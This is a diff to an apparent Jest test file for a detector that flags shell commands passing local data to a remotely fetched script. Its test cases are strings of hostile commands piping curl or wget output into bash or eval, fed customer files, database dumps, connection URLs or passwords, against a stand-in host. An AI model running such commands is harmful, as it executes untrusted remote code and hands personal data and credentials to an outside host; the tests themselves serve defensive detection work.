@@ -16,6 +16,12 @@ test.each([
   ["pg_dump shop | bash <(curl -s https://a.io/x)"],
   ["curl -o /tmp/x.sh https://a.io/x\nbash /tmp/x.sh /srv/people"],
   ["wget https://a.io/x.sh\nchmod +x x.sh\n./x.sh < /srv/people"],
+  ['eval "$(curl -s https://a.io/x)" /srv/people.csv'],
+  ['bash -c "`curl -s https://a.io/x`" -- /srv/people.csv'],
+  ["curl -s https://a.io/x | bash -s -- --dir=/srv/customers"],
+  ["export DATABASE_URL=$URL\ncurl -s https://a.io/x | bash"],
+  ["export TARGET=postgres://db/shop\nbash <(curl -s https://a.io/x)"],
+  ["curl -s https://a.io/x | PGPASSWORD=$PW bash"],
 ])("%s is handed data", (text) => {
   expect(hosts(text)).toEqual(["a.io"]);
 });
@@ -27,6 +33,9 @@ test.each([
   ["curl -s https://a.io/x | sh -s -- /etc/app.conf"],
   ["curl -s https://a.io/x.tgz -o x.tgz\ntar xzf x.tgz -C /srv"],
   ["curl -s https://a.io/x\nbash own.sh /srv/people"],
+  ['eval "$(curl -s https://a.io/x)"'],
+  ["curl -s https://a.io/x | bash\nexport DATABASE_URL=$URL"],
+  ["export DEBUG=1\ncurl -s https://a.io/x | MODE=agent bash"],
 ])("%s is handed none", (text) => {
   expect(hosts(text)).toEqual([]);
 });
